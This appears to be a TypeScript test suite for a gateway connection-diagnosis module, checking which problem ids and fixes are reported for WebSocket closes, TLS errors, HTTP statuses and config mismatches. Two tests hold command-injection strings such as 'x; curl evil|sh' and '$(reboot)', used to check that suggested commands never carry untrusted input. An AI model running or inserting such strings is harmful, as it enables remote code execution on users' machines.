import assert from 'node:assert/strict';
import {test} from 'node:test';
import {diagnose} from '../../../source/diagnosis/diagnose.js';
import type {Evidence, Observation} from '../../../source/diagnosis/evidence.js';
import {answer, ended, evidenceOf, failure, gateway, peer} from '../evidence-of.js';
import {allOff, chatOffResponsesOn, healthy, healthyHeld, lockedOut, oldHealthy, oldHeld} from './captured.js';
import {
	certificate,
	client,
	clock,
	closed,
	endpointOn,
	facts,
	greeted,
	local,
	models,
	tlsLook,
	unauthorized,
} from './gateway-observations.js';

const https = {origin: 'https://gw.example', addressClass: 'public'} as const;
const elsewhere = {origin: 'http://192.168.1.9:18789', addressClass: 'private'} as const;

const page = answer(200, {method: 'GET', path: '/healthz', layer: 'identity', body: 'html', title: 'OpenClaw Control'});
const silentlyClosed = closed(1006, '', {layer: 'identity', challenged: false, openMs: 3});

/** Every id that is said, the problem to solve first. */
function said(evidence: Evidence): readonly string[] {
	const {primary, alternatives, notes} = diagnose(evidence);
	return [primary, ...alternatives, ...notes].flatMap(found => (found === undefined ? [] : [found.id]));
}

/** What was seen, and all that may be said of it. */
const cases: ReadonlyArray<readonly [name: string, Evidence, ids: readonly string[]]> = [
	['all is well on 2026.9.6', evidenceOf(healthy), []],
	['all is well on 2026.2.9, and the token is neither good nor bad', evidenceOf(oldHealthy), ['V01']],
	['a gateway ends a look that signs nobody in, after its 15 s', evidenceOf(healthyHeld), []],
	['2026.2.9 does so after 10 s', evidenceOf(oldHeld), ['V01']],
	['we closed: no failure', evidenceOf([closed(1000, '', {welcomed: true, byUs: true, openMs: 60_000})]), []],
	['we closed before the welcome: no failure', evidenceOf([closed(1005, '', {byUs: true, openMs: 20})]), []],
	['we closed without a close frame after the greeting', evidenceOf([greeted, closed(1006, '', {byUs: true, openMs: 20})]), []],
	['1006 beside the error that explains it', evidenceOf([failure('ECONNREFUSED'), closed(1006, '', {challenged: false})]), ['N01']],
	['one thing that is stopping is said once', evidenceOf([gateway, facts({failing: ['gateway-draining']}), closed(1012)]), ['H24', 'W20']],
	[
		'no challenge, and no close frame either: only the web pages are there',
		evidenceOf([page, silentlyClosed, peer('other-web-server')]),
		['H01'],
	],
	[
		'a WebSocket of somebody else',
		evidenceOf([{...page, title: 'Home'}, {...silentlyClosed, code: 1012}, peer('other-web-server')]),
		['H02'],
	],
	['405 to GET is how an endpoint that is on answers', evidenceOf([gateway, endpointOn]), []],
	['405 to POST where a GET said that it is on', evidenceOf([gateway, endpointOn, answer(405, {body: 'text'})]), ['H14']],
	['no list of models and chat on: the token is not known', evidenceOf([gateway, endpointOn, models(404, {body: 'text'})]), []],
	[
		'an empty question is refused by a gateway that takes the token',
		evidenceOf([gateway, endpointOn, {...answer(400), layer: 'auth'}]),
		[],
	],
	['200 for the list of models does not switch chat on', evidenceOf(chatOffResponsesOn), ['H11']],
	['404 for the list of models is not a second problem', evidenceOf(allOff), ['H11']],
	['a lock-out says nothing about the token', evidenceOf(lockedOut), ['H18']],
	['a pinned certificate that nobody vouches for', evidenceOf([tlsLook({problem: 'DEPTH_ZERO_SELF_SIGNED_CERT'}), gateway], https), []],
	['TLS that is spoken beside plain HTTP', evidenceOf([tlsLook(), gateway], elsewhere), []],
	['no TLS on a port that is asked in plain HTTP', evidenceOf([tlsLook({spoken: false}), gateway]), []],
	[
		'a look at TLS that was cut is no plain HTTP',
		evidenceOf([tlsLook({spoken: false}), failure('ECONNRESET', {phase: 'tls'})], https),
		['N22'],
	],
	[
		'a certificate that is trusted',
		evidenceOf([tlsLook({trusted: true, certificate: {...certificate, issuer: 'R11'}}), gateway], https),
		[],
	],
	['checks of certificates that are on', evidenceOf([client({nodeFlags: ['NODE_EXTRA_CA_CERTS']}), gateway]), []],
	['a channel that is down is no draining', evidenceOf([gateway, facts({failing: ['telegram']}), endpointOn, models(200)]), ['H27']],
	['nothing fails', evidenceOf([gateway, facts({failing: []})]), []],
	['403 of somebody who is no gateway', evidenceOf([answer(403, {path: '/readyz', method: 'GET'}), peer('unknown')]), ['H14']],
	['clocks that are less than a minute apart', evidenceOf([gateway, clock(59_000)]), []],
	[
		'openclaw.json of another gateway, by its port',
		evidenceOf([gateway, unauthorized, local({port: 19_001, authMode: 'password'})]),
		['A02'],
	],
	['openclaw.json of another machine', evidenceOf([gateway, unauthorized, local({tokenMatches: true})], elsewhere), ['A02', 'A24']],
	['openclaw.json that could not be read', evidenceOf([gateway, unauthorized, local({state: 'unparsable', tokenMatches: true})]), ['A02']],
	[
		'a variable whose value is known to be ours',
		evidenceOf([gateway, unauthorized, local({token: 'variable', tokenMatches: true})]),
		['A03'],
	],
	['a literal token that could not be compared', evidenceOf([gateway, unauthorized, local({token: 'literal'})]), ['A02']],
	['401 to the question that is always asked without the token', evidenceOf([gateway, answer(401, {method: 'GET'})]), []],
	['a look that was greeted, and ended after 15 s', evidenceOf([gateway, greeted, closed(1000, '', {openMs: 15_000})]), []],
	['a session that was dropped, at an unknown time', evidenceOf([closed(1006, '', {welcomed: true})]), ['W12']],
	['an answer came, and then the WebSocket went', evidenceOf([gateway, ended('end-mark', {textLength: 4}), closed(1005)]), ['W09']],
	['403 elsewhere', evidenceOf([gateway, answer(403, {path: '/healthz', method: 'GET'})]), []],
	[
		'a handshake of TLS that was reset',
		evidenceOf([tlsLook({spoken: false, failure: {code: 'ECONNRESET', message: 'x'}}), failure('ECONNRESET', {phase: 'tls'})], https),
		['N22'],
	],
	[
		'the clock of a gateway that proves itself by its challenge',
		evidenceOf([{kind: 'peer-identified', layer: 'identity', atMs: 0, peer: 'gateway-by-challenge', clockSkewMs: -180_000}]),
		['A14', 'V01'],
	],
	['an answer that was cut without silence', evidenceOf([gateway, ended('broken', {textLength: 4, silentMs: 800})]), ['S04']],
	[
		'a silence that is no time limit, and no proxy seen',
		evidenceOf([gateway, ended('broken', {textLength: 4, silentMs: 44_000})]),
		['S04'],
	],
	['a silence of 60 s that was survived', evidenceOf([gateway, ended('end-mark', {textLength: 4, silentMs: 60_000})]), []],
	[
		'a short answer after a long silence',
		evidenceOf([gateway, ended('end-mark', {textLength: 90, events: 9, firstTokenMs: 30_000, tookMs: 30_010})]),
		[],
	],
	[
		'a model that writes fast',
		evidenceOf([gateway, ended('end-mark', {textLength: 9000, events: 900, firstTokenMs: 3000, tookMs: 9000})]),
		[],
	],
	['the same version as before', evidenceOf([lastGood('2026.9.6'), gateway, facts({version: '2026.9.6'})]), []],
	['a version that cannot be compared', evidenceOf([gateway, facts({version: 'dev'}), local({touchedBy: '2026.9.6'})]), []],
	['2026.10.1 is younger than 2026.9.6', evidenceOf([gateway, facts({version: '2026.10.1'}), local({touchedBy: '2026.9.6'})]), []],
];

for (const [name, evidence, ids] of cases) test(name, () => assert.deepEqual(said(evidence), ids));

function lastGood(version: string): Observation {
	return {kind: 'last-known-good', layer: 'config', atMs: 0, lastGoodAt: '2026-11-20T11:02:00.000Z', version};
}

test('1000 between one and three seconds, or at an unknown time, is certain of nothing', () => {
	for (const more of [{openMs: 1000}, {openMs: 2999}, {}]) {
		const {primary} = diagnose(evidenceOf([closed(1000, '', more)]));
		assert.equal(primary?.confidence, 'possible');
		assert.deepEqual(
			primary?.rivals?.map(({id}) => id),
			['W03'],
		);
	}
});

test('the certificate is only blamed for sure when the clocks agree', () => {
	const expired = [failure('CERT_HAS_EXPIRED', {phase: 'tls', layer: 'tls'})];
	const confidence = (seen: readonly Observation[]) => diagnose(evidenceOf(seen, https)).primary?.confidence;
	assert.equal(confidence(expired), 'likely');
	assert.equal(confidence([...expired, clock(1000)]), 'certain');
	// The other clock is a day off, too little to make this certificate valid: nothing is proved.
	assert.equal(
		confidence([...expired, tlsLook({certificate: {...certificate, validTo: '2026-10-01T00:00:00.000Z'}}), clock(86_400_000)]),
		'likely',
	);
});

test('what is wrong with the control plane turns nothing red where questions go through over HTTP', () => {
	for (const close of [closed(1002, 'protocol mismatch'), closed(1006, '', {openMs: 5}), closed(1006, '', {upgradeStatus: 404})]) {
		assert.equal(diagnose(evidenceOf([gateway, endpointOn, models(200), close])).primary, undefined);
		assert.equal(diagnose(evidenceOf([gateway, endpointOn, unauthorized, close])).primary?.id, 'A02');
		assert.equal(diagnose(evidenceOf([gateway, close])).primary?.layer, 'control');
	}
});

test('an id of the network stands in a command only when it is nothing but an id', () => {
	const hostile = ['x; curl evil|sh', '$(reboot)', '--all', '-f', 'a b', "a'b", 'a\u001b[31m', '', 'a'.repeat(65), 'ä', '`id`', 'a\nb'];
	for (const id of hostile) {
		for (const seen of [
			closed(1008, `pairing required: device is not approved yet (requestId: ${id})`),
			answer(403, {errorCode: 'PAIRING_REQUIRED', errorMessage: `pairing required (requestId: ${id})`}),
		]) {
			const fixes = diagnose(evidenceOf([gateway, seen])).primary?.fixes ?? [];
			const approve = fixes.find(({command}) => command?.startsWith('openclaw devices approve'));
			assert.equal(approve?.command, 'openclaw devices approve REQUEST_ID', id);
			assert.equal(approve?.applicability, 'changes-exposure');
			if (id !== '') assert.ok(approve?.shownApart === undefined || approve.shownApart === id, id);
		}
	}
	const good = diagnose(evidenceOf([closed(1008, 'pairing required: device is not approved yet (requestId: 7c-1E)')])).primary;
	assert.deepEqual(good?.fixes[1]?.command, 'openclaw devices approve 7c-1E');
});

test('names of a certificate stand in no command', () => {
	const names = ['evil.example', 'x; curl evil|sh'];
	const seen = [tlsLook({problem: 'ERR_TLS_CERT_ALTNAME_INVALID', certificate: {...certificate, names}})];
	const fixes = diagnose(evidenceOf(seen, https)).primary?.fixes ?? [];
	assert.ok(fixes.length > 0 && fixes.every(({command}) => !command?.includes('evil')));
});

test('what changes exposure or throws others out never comes first, where there is anything else to do', () => {
	const seen = [...unauthorizedBy({tokenMatches: true}), ...unauthorizedBy({token: 'variable'})];
	for (const evidence of seen) {
		const order = diagnose(evidence).primary?.fixes.map(({applicability}) => applicability) ?? [];
		assert.equal(order[0], 'safe-to-run');
		assert.deepEqual(
			order.toSorted((a, b) => Number(a === 'last-resort') - Number(b === 'last-resort')),
			order,
		);
	}
});

function unauthorizedBy(more: Parameters<typeof local>[0]): readonly Evidence[] {
	return [evidenceOf([gateway, unauthorized, local(more)])];
}
